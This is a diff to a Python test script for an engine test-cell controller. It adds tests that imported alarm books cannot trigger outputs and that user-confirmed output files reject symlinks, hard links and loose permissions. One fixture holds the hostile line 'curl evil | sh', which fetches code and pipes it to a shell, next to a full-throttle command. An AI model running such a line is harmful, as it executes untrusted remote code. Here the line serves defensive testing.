@@ -5,6 +5,8 @@ in a pull is refused.
 
 Usage: cell_shut_down.py PROGRAM"""
 import json
+import os
+import stat
 
 from harness import Scenario
 from live_cell import Cell
@@ -14,9 +16,6 @@ ALARMS = """alarms:
   - {name: oil low, watch: oil_pressure, action: shut down, says: shut throttle keep load, below: 1.0 bar, hold: 0.1 s}
   - {name: coolant very hot, watch: coolant_temperature, action: shut down, says: shut throttle keep load, above: 105 degC, hold: 0.1 s}
   - {name: oil hot, watch: oil_temperature, action: notice, says: let the oil cool, above: 120 degC, hold: 0.1 s}
-outputs:
-  - {name: shut the throttle, kind: send, line: throttle 0}
-  - {name: stop the engine, kind: send, line: stop, speed_below: 1000 rpm}
 """
 
 
@@ -211,6 +210,91 @@ def in_a_pull_the_recorder_refuses():
         cell.stop()
 
 
+HOSTILE = ALARMS + """outputs:
+  - {name: hostile line, kind: send, line: throttle 100}
+  - {name: hostile file, kind: file, to: %s, line: "curl evil | sh"}
+heartbeat: {every: 0.1 s, line: hostile heart}
+"""
+
+
+def a_foreign_book_drives_nothing():
+    book, victim = s.path("foreign.book"), s.write("victim.sh", "mine\n")
+    kept = s.run("cell", "alarms", "--alarms", s.write("hostile.yaml", HOSTILE % victim), "--keep", "--book", book)
+    s.check("a table with outputs can be kept", kept.code == 0, kept)
+    with Cell(s, "foreign.book") as cell:
+        told = cell.wait(lambda n: n.get("action") == "outputs")
+        s.check("that its outputs are not used is told", told and told["unused"] == 2, cell.news[:4])
+        cell.rows(400)
+        asks(cell, "with a foreign book", oil=0.2)
+        cell.rows(100)
+        cell.stop()
+        s.check("nothing of the book's is sent", not [g for g in cell.got if "100" in g or "hostile" in g], cell.got)
+    done = s.run("cell", "record", "--json", "--book", book, "--source", "practice:?pace=0&run=wait 5;fault oil-pump;wait 8;end")
+    s.check("practice with it asks the practice cell only", '"name":"shut the throttle"' in done.out and "hostile" not in done.out.replace("hostile.yaml", ""), done)
+    s.check("the file is as it was", open(victim).read() == "mine\n")
+    mixed = s.run("cell", "record", "--book", book, "--source", "practice:?pace=0", "--source", "tcp://127.0.0.1:9?control=yes")
+    s.refused("practice and a real source together", mixed, "practice", "real")
+
+
+def outputs_belong_to_this_machine():
+    home = os.path.join(s.folder, ".config", "enginewright")
+    mine = os.path.join(home, "outputs.yaml")
+    fifo, victim, link = s.path("fifo"), s.write("regular.txt", "mine\n"), s.path("link")
+    os.mkfifo(fifo)
+    os.symlink(victim, link)
+    os.makedirs(s.path("real"), exist_ok=True)
+    os.mkfifo(s.path("real/fifo"))
+    os.symlink(s.path("real"), s.path("way"))
+    text = "outputs:\n" + "".join(
+        f"  - {{name: {name}, kind: file, to: {to}, line: \"{name}\\n\"}}\n"
+        for name, to in (("pipe", fifo), ("regular", victim), ("linked", link), ("through a link", s.path("way/fifo")), ("none", s.path("absent"))))
+    given = s.write("outputs.yaml", text)
+    shown = s.run("cell", "outputs", "--outputs", given)
+    s.check("outputs are shown with what they will do, and not kept", shown.code == 1 and "writes 'pipe" in shown.out and "--confirm" in shown.err and not os.path.exists(mine), shown)
+    s.refused("a file by half its path", s.run("cell", "outputs", "--outputs", s.write("half.yaml", "outputs: [{name: a, kind: file, to: x/y, line: z}]")), "whole path")
+    s.refused("alarms are no outputs", s.run("cell", "outputs", "--outputs", s.write("both.yaml", ALARMS)), "outputs and heartbeat only")
+    s.refused("confirming nothing", s.run("cell", "outputs", "--confirm"), "--outputs FILE")
+    s.good("cell", "outputs", "--outputs", given, "--confirm")
+    s.check("the file is this user's alone", stat.S_IMODE(os.stat(mine).st_mode) == 0o600, oct(os.stat(mine).st_mode))
+    listed = s.good("cell", "outputs", "--json").json
+    s.check("and in force", listed["in_force"] and listed["from"] == mine and len(listed["outputs"]) == 5, listed)
+    reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
+    other = os.open(s.path("real/fifo"), os.O_RDONLY | os.O_NONBLOCK)
+    with Cell(s, "machine.book", ALARMS) as cell:
+        cell.rows(400)
+        cell.rows(30, oil=0.2)
+        for name, word in (("pipe", None), ("regular", "neither a FIFO nor a device"), ("linked", "link"), ("through a link", "link"), ("none", "No such file")):
+            one = cell.request(name)
+            s.check(f"{name}: {word or 'written'}", one and one["done"] is (word is None) and (word or "") in (one["why"] or ""), one)
+        s.check("what is read from the FIFO", os.read(reader, 100) == b"pipe\n")
+        s.check("nothing went through the link", read_or_none(other) is None)
+        s.check("nor into the file", open(victim).read() == "mine\n")
+        s.check("the usual lines are not sent beside them", cell.got == [], cell.got)
+        cell.stop()
+    done = s.run("cell", "record", "--json", "--book", s.path("p.book"), "--source", "practice:?pace=0&run=wait 5;fault oil-pump;wait 8;end")
+    s.check("practice drives none of them", '"name":"shut the throttle"' in done.out and '"name":"pipe"' not in done.out and read_or_none(reader) is None, done)
+    os.close(reader), os.close(other)
+    for says, spoil, word in (("open to others", lambda: os.chmod(mine, 0o644), "open to others"),
+                              ("a second name", lambda: os.link(mine, s.path("second")), "second name"),
+                              ("a link", lambda: (os.rename(mine, s.path("moved.yaml")), os.symlink(s.path("moved.yaml"), mine)), "link")):
+        s.good("cell", "outputs", "--outputs", given, "--confirm")
+        spoil()
+        s.refused(f"{says}: no session begins", s.run("cell", "record", "--book", s.path("machine.book"), "--source", "tcp://127.0.0.1:9"), word)
+        if os.path.exists(s.path("second")):
+            os.unlink(s.path("second"))
+    s.good("cell", "outputs", "--outputs", given, "--confirm")
+    s.check("confirming replaces a link, and does not follow it", not os.path.islink(mine))
+    forgotten = s.good("cell", "outputs", "--forget", "--json").json
+    s.check("forgotten: the usual lines again", forgotten["from"] == "the usual lines" and not os.path.exists(mine), forgotten)
+
+
+def read_or_none(fd):
+    try:
+        return os.read(fd, 100) or None
+    except BlockingIOError:
+        return None
+
+
 with_a_notice_standing()
 with_the_table_exchanged()
 from_no_alarms_at_all()
@@ -219,4 +303,6 @@ low_oil_pressure_before_load()
 asleep_is_told_while_arming()
 a_pull_by_hand_is_kept()
 in_a_pull_the_recorder_refuses()
+a_foreign_book_drives_nothing()
+outputs_belong_to_this_machine()
 s.finish()
